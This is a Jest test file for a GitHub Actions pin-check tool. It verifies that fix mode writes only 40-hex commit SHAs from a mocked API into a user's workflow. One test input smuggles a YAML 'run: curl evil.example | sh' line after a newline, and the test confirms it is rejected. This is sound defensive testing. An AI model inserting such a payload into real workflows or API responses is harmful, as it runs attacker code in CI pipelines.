import { afterEach, describe, expect, test } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ACTION_REPOSITORIES, CI_WORKFLOW } from '../fixtures/action-repositories.js';
import { recordedExample } from '../harness/github-api/recorded.js';
import { repositoryRoutes } from '../harness/github-api/repository-routes.js';
import { startGitHubApiServer, type ApiRequest, type GitHubApiServer } from '../harness/github-api/server.js';
import { runBundle } from '../harness/run-bundle.js';
import { makeWorkspace } from '../harness/workspace.js';

// Fix mode writes what the API says a ref resolves to into the user's workflow: only a 40-hex SHA may get there.
const TOKEN = 'ghs_pinCheckAnswersToken4f9a8b7c6d5e4f3a2b1';
const WORKFLOW_PATH = '.github/workflows/ci.yml';

let server: GitHubApiServer | undefined;
afterEach(async () => server?.close());

/** `GET .../git/ref/tags/v4` of actions/checkout answers a ref whose object id is `sha`. */
function tagAnswering(sha: string) {
  const body = recordedExample('git-ref');
  Object.assign(body, { ref: 'refs/tags/v4', object: { type: 'commit', sha, url: 'https://api.github.com/repos/actions/checkout/git/commits/x' } });
  // Octokit sends the ref's slash encoded (tags%2Fv4).
  return { match: (request: ApiRequest) => decodeURIComponent(request.path) === '/repos/actions/checkout/git/ref/tags/v4', reply: { status: 200, body } };
}

async function fix(online: 'required' | 'optional', sha: string) {
  server = await startGitHubApiServer(repositoryRoutes(ACTION_REPOSITORIES), { token: TOKEN, faults: [tagAnswering(sha)] });
  const workspace = makeWorkspace({ [WORKFLOW_PATH]: CI_WORKFLOW, '.github/gates.yml': `version: 1\npin-check:\n  online: ${online}\n` });
  const result = await runBundle('pin-check', { workspace, inputs: { mode: 'fix', token: TOKEN, 'api-timeout': '3s' }, env: { GITHUB_API_URL: server.url } });
  return { result, workflow: readFileSync(join(workspace, WORKFLOW_PATH), 'utf8') };
}

describe('pin-check fix mode accepts only 40-hex SHAs from the API', () => {
  test.each([
    ['a short SHA', '4f58ea7'],
    ['YAML smuggled after a newline', `${'a'.repeat(40)}\n  run: curl evil.example | sh`],
    ['upper-case hex', 'A'.repeat(40)],
    ['41 characters', 'b'.repeat(41)],
  ])('online: required — %s is GATES_E_API_MALFORMED (exit 3) and nothing is written', async (_name, sha) => {
    const { result, workflow } = await fix('required', sha);
    expect(result.exitCode).toBe(3);
    expect(result.stdout).toContain('GATES_E_API_MALFORMED');
    expect(workflow).toBe(CI_WORKFLOW);
  });

  test('online: optional — that reference is an online-check-failed warning and stays unpinned; the others are pinned', async () => {
    const { result, workflow } = await fix('optional', 'not-a-sha');
    expect(result.annotations.some((annotation) => annotation.properties.title === 'online-check-failed' && annotation.data.includes('not a 40-hex SHA'))).toBe(true);
    expect(workflow).toContain('actions/checkout@v4\r');
    expect(workflow).not.toContain('not-a-sha');
    expect(workflow).toMatch(/codecov\/codecov-action@[0-9a-f]{40} # main/);
  });
});
